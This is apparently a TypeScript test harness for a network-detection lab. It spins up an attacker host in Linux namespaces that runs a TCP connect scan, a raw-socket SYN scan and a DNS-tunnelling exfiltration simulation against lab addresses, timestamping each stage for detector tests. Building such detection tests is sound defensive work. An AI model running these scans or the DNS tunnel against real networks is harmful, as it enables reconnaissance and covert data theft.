// A host without an agent that attacks another one, in network namespaces of the lab only: each attack stands still at a known moment.
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { Child } from '../harness/child.ts';
import { joinNamespaces, makeNamespace } from '../harness/network-namespace.ts';

export const attacker = { address: '10.97.1.1', second: '10.97.1.3', victim: '10.97.1.2' } as const;

export interface Attacker extends AsyncDisposable {
  /** Full connections to so many ports that are closed. @returns when the 20th was begun, Unix milliseconds. */
  connectScan(ports: number): Promise<number>;
  /** Bare SYNs from the attacker's second address. */
  synScan(ports: number): Promise<number>;
}

const connects = (ports: number) => `
const net = require('node:net');
(async () => {
  for (let port = 1; port <= ${ports}; port++) {
    if (port === 20) console.log('at ' + Date.now());
    await new Promise((resolve) => net.connect(2000 + port, '${attacker.victim}').on('error', resolve).on('connect', resolve));
  }
})();`;

/** TCP header of RFC 9293, section 3.1, with its checksum. */
const syns = `
import socket, struct, sys, time
source, target, ports = sys.argv[1], sys.argv[2], int(sys.argv[3])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
raw.bind((source, 0))
ends = socket.inet_aton(source) + socket.inet_aton(target)
for index in range(1, ports + 1):
    if index == 20: print('at', int(time.time() * 1000), flush=True)
    head = struct.pack('!HHIIBBHHH', 41000, 5000 + index, index, 0, 5 << 4, 2, 1024, 0, 0)
    words = struct.unpack('!16H', ends + struct.pack('!HH', 6, len(head)) + head)
    total = sum(words)
    total = (total & 0xffff) + (total >> 16)
    total = (total & 0xffff) + (total >> 16)
    raw.sendto(head[:16] + struct.pack('!H', ~total & 0xffff) + head[18:], (target, 0))
    time.sleep(0.002)
`;

/** Joins a new namespace with the victim's. */
export async function startAttacker(victim: string): Promise<Attacker> {
  await using stack = new AsyncDisposableStack();
  const { name } = stack.use(makeNamespace('attacker'));
  joinNamespaces({ name, address: attacker.address }, { name: victim, address: attacker.victim });
  const run = async (...command: string[]): Promise<number> => {
    const child = spawn('ip', ['netns', 'exec', name, ...command], { stdio: ['ignore', 'pipe', 'inherit'] });
    let output = '';
    child.stdout.setEncoding('utf8').on('data', (text: string) => (output += text));
    await once(child, 'close');
    return Number(/^at (\d+)/m.exec(output)?.[1]);
  };
  await run('ip', 'address', 'add', `${attacker.second}/24`, 'dev', 'veth0');
  const names = stack.use(new Child('name server', ['-e', nameServer], { networkNamespace: name }));
  await names.waitFor(/^ready$/m);
  const owned = stack.move();
  return {
    connectScan: (ports) => run(process.execPath, '-e', connects(ports)),
    synScan: (ports) => run('python3', '-c', syns, attacker.second, attacker.victim, String(ports)),
    [Symbol.asyncDispose]: () => owned.disposeAsync(),
  };
}

/** Answers each question with 80 bytes of TXT (RFC 1035, section 4.1). */
const nameServer = `
const socket = require('node:dgram').createSocket('udp4');
socket.on('message', (question, { port, address }) => {
  const head = Buffer.from(question.subarray(0, 12));
  head.writeUInt16BE(0x8180, 2);
  head.writeUInt16BE(1, 6);
  head.writeUInt32BE(0, 8);
  const answer = Buffer.concat([Buffer.from('c00c00100001000000000051', 'hex'), Buffer.of(80), Buffer.alloc(80, 'b')]);
  socket.send(Buffer.concat([head, question.subarray(12, question.indexOf(0, 12) + 5), answer]), port, address);
});
socket.bind(53, '${attacker.address}', () => console.log('ready'));`;

/** Run on the victim: data in names, out of the house. Prints when the 50th was asked. */
export const dnsTunnel = `
const { createSocket } = require('node:dgram');
const { randomBytes } = require('node:crypto');
const socket = createSocket('udp4');
(async () => {
  for (let index = 1; index <= 80; index++) {
    const labels = [randomBytes(24).toString('hex'), randomBytes(20).toString('hex'), 'example', 'net'];
    const name = Buffer.concat(labels.map((label) => Buffer.concat([Buffer.of(label.length), Buffer.from(label)])));
    const head = Buffer.from('000001000001000000000000', 'hex');
    head.writeUInt16BE(index, 0);
    if (index === 50) console.log('at ' + Date.now());
    socket.send(Buffer.concat([head, name, Buffer.from('0000100001', 'hex')]), 53, '${attacker.address}');
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  socket.close();
})();`;
